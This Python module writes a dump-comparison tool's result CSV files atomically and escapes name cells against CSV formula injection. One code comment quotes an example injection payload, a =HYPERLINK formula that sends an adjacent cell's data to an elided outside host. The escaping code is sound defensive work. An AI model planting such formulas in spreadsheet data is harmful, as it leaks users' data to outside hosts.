"""``result_{timestamp}.csv`` writer."""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator, Sequence
from pathlib import Path

from dumpcmp.host.rows import ResultRow
from dumpcmp.host.sinks.table import TableShape
from dumpcmp.outputs import new_file


def write_csv(
    path: Path, rows: Sequence[ResultRow], shape: TableShape, text: Sequence[tuple[int, Sequence[str]]] = ()
) -> Path:
    """The result table as ``path`` (or the next free name, see ``write_new_table``); the path written.

    ``text``: (Index, lines) of the files of the first rows, their lines made by ``row_lines``
    with OpSequence and without addresses (``shape`` has none then: a file whose rows have one
    is never given as text); the rows after them are formatted here.
    """
    done = sum(len(lines) for _, lines in text)
    keep = shape.op_sequence
    lines = (f"{index},{line if keep else line.partition(',')[2]}" for index, file in text for line in file)
    return write_new_table(path, shape.header(), (shape.cells(r) for r in rows[done:]), lines)


def row_lines(rows: Sequence[ResultRow], shape: TableShape) -> tuple[str, ...]:
    """Each row's CSV line after its Index cell, newline included, as ``write_new_table`` writes it."""
    lines: list[str] = []
    writer = csv.writer(_Lines(lines), lineterminator="\n")
    writer.writerows(inert_rows(shape.header()[1:], (shape.cells(r)[1:] for r in rows)))
    return tuple(lines)


# CSV injection (OWASP): a spreadsheet opening a CSV runs a cell that starts with one of these as
# a formula. Op names come from a model or a dump's file names, someone else's maybe: an op named
# ``=HYPERLINK("http://…"&A1)`` was a live link carrying the next cell. The name columns (and no
# others: numbers such as -1.5 are numbers) get a leading quote there, which spreadsheets show as
# text and ``restored_rows`` takes off again; a name starting with that quote gets one too, so
# that reading back is exact. Every other name, the CANN comparator's format, is written as is.
_FORMULA_STARTS = frozenset("=+-@\t\r")
_QUOTE = "'"
_QUOTED = _FORMULA_STARTS | {_QUOTE}
NAME_COLUMNS = frozenset({"OpType", "NPUDump", "GroundTruth", "TensorIndex", "API Name"})


def inert_rows(header: Sequence[str], rows: Iterable[Sequence[str]]) -> Iterator[Sequence[str]]:
    """``rows`` under ``header`` with each name cell a spreadsheet would run as a formula quoted."""
    names = frozenset(i for i, column in enumerate(header) if column in NAME_COLUMNS)
    for row in rows:
        if any(row[i][:1] in _QUOTED for i in names):
            row = [
                _QUOTE + cell if i in names and cell[:1] in _QUOTED else cell for i, cell in enumerate(row)
            ]
        yield row


def restored_rows(rows: Iterable[Sequence[str]]) -> list[list[str]]:
    """A result CSV's rows (header first) with the names ``inert_rows`` quoted as they were."""
    it = iter(rows)
    header = list(next(it, []))
    names = frozenset(i for i, column in enumerate(header) if column.strip() in NAME_COLUMNS)
    restored = [header]
    for row in it:
        cells = list(row)
        for i in names:
            if i < len(cells) and cells[i][:1] == _QUOTE and cells[i][1:2] in _QUOTED:
                cells[i] = cells[i][1:]
        restored.append(cells)
    return restored


class _Lines:
    """A file to ``csv.writer`` that keeps each line it is given: the writer writes a row in one call."""

    def __init__(self, lines: list[str]) -> None:
        self.write = lines.append


def write_new_table(
    path: Path, header: Sequence[str], cells: Iterable[Sequence[str]], lines: Iterable[str] = ()
) -> Path:
    """Write a CSV table atomically, so a reader never sees half a result file; the path written.
    ``lines``, already CSV (each with its newline), come between the header and ``cells``.

    An existing result is never overwritten: two compares into one directory within the same
    second (one timestamp) get ``result_{ts}.csv`` and ``result_{ts}_1.csv`` (``new_file``).
    """

    def write(temp: Path) -> None:
        with temp.open("w", newline="", encoding="utf-8") as handle:
            writer = csv.writer(handle, lineterminator="\n")
            writer.writerow(header)
            handle.writelines(lines)
            writer.writerows(inert_rows(header, cells))

    return new_file(path, write)
